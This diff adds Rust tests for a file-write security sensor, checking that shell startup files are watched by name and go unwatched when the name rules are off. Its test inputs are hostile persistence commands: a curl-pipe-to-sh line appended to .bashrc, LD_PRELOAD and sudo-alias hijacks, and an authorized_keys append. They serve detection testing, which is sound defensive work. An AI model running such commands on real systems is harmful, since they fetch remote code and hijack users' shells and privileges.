@@ -505,6 +505,176 @@ fn any_systemd_user_directory_is_watched_whenever_it_was_made() {
     assert_quiet(&sensor, quiet, "writes outside systemd/user directories");
 }
 
+/// With `shell_rc_files` (on by default), a file named as a shell's
+/// startup file is watched by its name, in whichever directory: written
+/// in a home made after the start, written through a symlink to it,
+/// created in a skeleton directory, renamed into place by absolute and
+/// relative paths, linked and symlinked into place, and removed. Names
+/// that only look like one are not.
+#[test]
+fn any_shell_startup_file_is_watched_by_its_name() {
+    let tree = Tree::new();
+    let sensor = Sensor::start(&tree.config());
+    let root = &tree.root;
+    for d in ["home/gina", "etc/skel"] {
+        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
+    }
+    let home = tree.path("home/gina");
+    std::fs::write(home.join(".bashrc"), b"# ~/.bashrc\n").expect("write");
+    std::fs::write(home.join(".zlogin"), b"").expect("write");
+    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
+
+    let append = sh(
+        "echo 'curl -s http://203.0.113.9/x | sh' >> home/gina/.bashrc",
+        root,
+    );
+    std::os::unix::fs::symlink(home.join(".profile"), tree.path("other/p")).expect("symlink");
+    let through_link = sh("echo 'export LD_PRELOAD=/tmp/.l.so' > other/p", root);
+    let skel = sh("echo 'alias sudo=/tmp/.s' > etc/skel/.zshrc", root);
+    std::fs::write(tree.path("other/a"), b"alias ls=/tmp/.x\n").expect("write");
+    let mv_abs = run(
+        "mv",
+        &[
+            &text(&tree.path("other/a")),
+            &text(&home.join(".bash_aliases")),
+        ],
+        root,
+    );
+    std::fs::write(home.join("new"), b"x\n").expect("write");
+    let mv_rel = run("mv", &["new", ".bash_logout"], &home);
+    std::fs::write(tree.path("other/z"), b"x\n").expect("write");
+    let hard = run(
+        "ln",
+        &[&text(&tree.path("other/z")), &text(&home.join(".zshenv"))],
+        root,
+    );
+    let soft = run("ln", &["-s", "/tmp/.evil", ".bash_login"], &home);
+    let rm = run("rm", &[&text(&home.join(".zlogin"))], root);
+    // Not watched: names that only look like one.
+    let quiet = sh(
+        "echo k > .bashrc.bak && echo k > bashrc && echo k > .profile_old \
+         && echo k > .zsh && echo k > .bash_profile2 && echo k > x.profile",
+        &home,
+    );
+    let control = sh(
+        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
+        root,
+    );
+
+    let (path, new_path) = ("file.path", "sensor.file_write.new_path");
+    let (watched, by) = ("sensor.file_write.watched", "sensor.file_write.matched_by");
+    let named = |p: PathBuf| {
+        vec![
+            (path, text(&p)),
+            (watched, text(&p)),
+            (by, "name".to_owned()),
+        ]
+    };
+    let renamed = |p: PathBuf| vec![(new_path, text(&p)), (watched, text(&p))];
+    let expected = [
+        (
+            "an append to .bashrc",
+            "open_write",
+            append,
+            named(home.join(".bashrc")),
+        ),
+        (
+            ".profile written through a symlink",
+            "open_write",
+            through_link,
+            named(home.join(".profile")),
+        ),
+        (
+            "a skeleton .zshrc",
+            "open_write",
+            skel,
+            named(tree.path("etc/skel/.zshrc")),
+        ),
+        (
+            ".bash_aliases renamed into place",
+            "rename",
+            mv_abs,
+            renamed(home.join(".bash_aliases")),
+        ),
+        (
+            ".bash_logout renamed into place, relative",
+            "rename",
+            mv_rel,
+            renamed(home.join(".bash_logout")),
+        ),
+        (
+            ".zshenv hard-linked into place",
+            "link",
+            hard,
+            vec![(path, text(&home.join(".zshenv")))],
+        ),
+        (
+            ".bash_login symlinked into place",
+            "symlink",
+            soft,
+            vec![(path, text(&home.join(".bash_login")))],
+        ),
+        (
+            ".zlogin removed",
+            "unlink",
+            rm,
+            vec![(path, text(&home.join(".zlogin")))],
+        ),
+        ("the control append", "open_write", control, vec![]),
+    ];
+    expect_writes(&sensor, expected);
+    assert_quiet(
+        &sensor,
+        quiet,
+        "files named like, but not as, startup files",
+    );
+}
+
+/// With the name rules off, a `.ssh` directory, a `systemd/user` directory
+/// and a shell's startup file that no configured path covers are not
+/// watched: each switch turns its rule off in the kernel.
+#[test]
+fn name_rules_turned_off_watch_nothing_by_name() {
+    let tree = Tree::new();
+    let sensor = Sensor::start(&format!(
+        "{}user_unit_dirs = false\nshell_rc_files = false\n",
+        tree.config()
+    ));
+    let root = &tree.root;
+    for d in ["home/zed/.ssh", "home/zed/.config/systemd/user/x.service.d"] {
+        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
+    }
+    std::fs::write(tree.path("other/k"), b"k\n").expect("write");
+    let quiet = sh(
+        "echo k >> home/zed/.ssh/authorized_keys \
+         && echo u > home/zed/.config/systemd/user/x.service \
+         && echo u > home/zed/.config/systemd/user/x.service.d/o.conf \
+         && echo b >> home/zed/.bashrc && cd home/zed && echo p > .profile",
+        root,
+    );
+    let mv = run(
+        "mv",
+        &[
+            &tree.path("other/k").display().to_string(),
+            &tree.path("home/zed/.ssh/rc").display().to_string(),
+        ],
+        root,
+    );
+    let rm = run("rm", &["home/zed/.bashrc", "home/zed/.profile"], root);
+    let control = sh(
+        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
+        root,
+    );
+    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
+    for (pid, what) in [
+        (quiet, "writes in .ssh, systemd/user and startup files"),
+        (mv, "a rename into .ssh"),
+        (rm, "startup files removed"),
+    ] {
+        assert_quiet(&sensor, pid, what);
+    }
+}
+
 /// The write events `expected` (what, action, pid, then fields and their
 /// values) all arrive.
 fn expect_writes<'a>(
